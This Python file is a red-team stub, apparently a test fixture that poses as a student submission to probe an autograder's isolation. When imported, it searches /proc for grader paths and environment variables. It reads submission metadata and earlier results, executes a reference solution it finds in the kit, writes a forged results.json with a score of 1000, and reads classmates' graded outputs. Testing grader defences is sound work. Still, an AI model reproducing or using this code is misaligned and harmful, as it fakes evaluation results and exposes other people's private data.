"""Red team (issue 26, Gradescope layout and earlier runs): a stub that looks for the autograder's files
(/autograder, and any root named by a run_autograder or AUTOGRADER_ROOT it can see in /proc), reads the
submission metadata (earlier submissions' scores), an earlier results.json, the kit's code in source/
(running a complete solution found there), tries to write results/results.json with full marks, and, in
a class run, reads the results of classmates graded earlier in OUT (found from the grader's --out).
Marker: RTEAM-GS.

base: stub
class: 6
run: main
"""

import json as _json
import os as _os

_MARK = "_rteam_gs_marker"


def _roots():
    roots, outs = {"/autograder"}, set()
    for pid in _os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            words = [word.decode(errors="replace") for word in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")]
        except OSError:
            continue
        for index, word in enumerate(words):
            if word.endswith("run_autograder"):
                roots.add(_os.path.dirname(_os.path.dirname(word)))
            if "/source/" in word and word.startswith("/"):
                roots.add(word.split("/source/")[0])
            if word == "--out" and index + 1 < len(words):
                outs.add(words[index + 1])
        try:
            for entry in open(f"/proc/{pid}/environ", "rb").read().split(b"\0"):
                if entry.startswith(b"AUTOGRADER_ROOT="):
                    roots.add(entry.split(b"=", 1)[1].decode(errors="replace"))
        except OSError:
            pass
    try:
        import grader as _grader

        here = _os.path.dirname(_os.path.dirname(_os.path.abspath(_grader.__file__)))
        if here.endswith("/source"):
            roots.add(_os.path.dirname(here))
    except Exception:  # noqa: BLE001
        pass
    return sorted(roots), sorted(outs)


def _peek(path, limit=300):
    try:
        with open(path, "rb") as stream:
            return stream.read(limit).decode(errors="replace")
    except OSError as error:
        return f"<{error.strerror}>"


def _solution(root):
    for folder, _, files in _os.walk(_os.path.join(root, "source")):
        for name in files:
            if name.endswith(".py"):
                text = _peek(_os.path.join(folder, name), 2_000_000)
                if "class MultiHeadAttention(" in text and "is not implemented yet" not in text and _MARK not in text:
                    return _os.path.join(folder, name), text
    return None, None


def _visit():
    found = {}
    roots, outs = _roots()
    for root in roots:
        if not _os.path.isdir(root):
            continue
        report = found[root] = {}
        for name in ("submission_metadata.json", "results/results.json", "submission/attention.py"):
            report[name] = _peek(_os.path.join(root, name))
        try:
            report["source"] = sorted(_os.listdir(_os.path.join(root, "source")))[:30]
        except OSError as error:
            report["source"] = f"<{error.strerror}>"
        where, text = _solution(root)
        if text:
            report["ran"] = where
            exec(compile(text, "source", "exec"), globals())
        try:
            _os.makedirs(_os.path.join(root, "results"), exist_ok=True)
            with open(_os.path.join(root, "results", "results.json"), "w") as stream:
                _json.dump({"score": 1000, "output": "RTEAM-GS forged results", "tests": []}, stream)
            report["wrote results.json"] = True
        except OSError as error:
            report["wrote results.json"] = error.strerror
    for out in outs:
        try:
            names = sorted(_os.listdir(_os.path.join(out, "results")))
            found[out] = {name: _peek(_os.path.join(out, "results", name), 120) for name in names[:6]}
        except OSError as error:
            found[out] = f"<{error.strerror}>"
    return found


class _AtLoad:
    _found = _visit()


def dot_product_variance(dim, num_trials=1000, seed=0):
    raise RuntimeError("RTEAM-GS ran: " + _json.dumps(_AtLoad._found)[:8000])
